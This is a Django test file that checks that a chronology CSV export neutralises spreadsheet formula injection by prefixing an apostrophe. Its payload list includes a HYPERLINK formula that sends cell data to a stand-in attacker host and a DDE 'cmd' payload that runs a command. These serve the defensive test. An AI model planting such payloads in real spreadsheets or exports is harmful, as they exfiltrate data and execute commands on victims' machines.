"""Issue 13 finding 9: text typed into the chronology reaches its CSV as text, never as a live formula."""

import csv
import io

from django.urls import reverse

from toki.hq.models import ChronologyEntry
from toki.hq.tests.helpers import HqTestCase

PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+81 259 00 0000", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)")


class ChronologyCsvFormulaTests(HqTestCase):
    def test_it_exports_formula_like_text_with_a_leading_apostrophe(self):
        self.login(self.alice)
        url = reverse("hq:chronology", args=[self.incident.pk])
        for payload in PAYLOADS:
            self.client.post(url, {"content": payload, "category": "other", "sender": payload})
        entry = ChronologyEntry.objects.get(content=PAYLOADS[0])
        self.client.post(reverse("hq:annotate", args=[self.incident.pk, entry.pk]), {"text": "=1+1"})
        response = self.client.get(reverse("hq:chronology_csv", args=[self.incident.pk]))
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        contents = {row[3]: row for row in rows[1:]}
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                self.assertIn("'" + payload, contents)
                self.assertEqual(contents["'" + payload][1], "'" + payload)  # 発信者
        self.assertTrue(contents["'" + PAYLOADS[0]][8].endswith(" =1+1"))  # annotations start with their time
        cells = [cell for row in rows for cell in row]
        self.assertFalse([cell for cell in cells if cell.startswith(("=", "+", "-", "@"))])
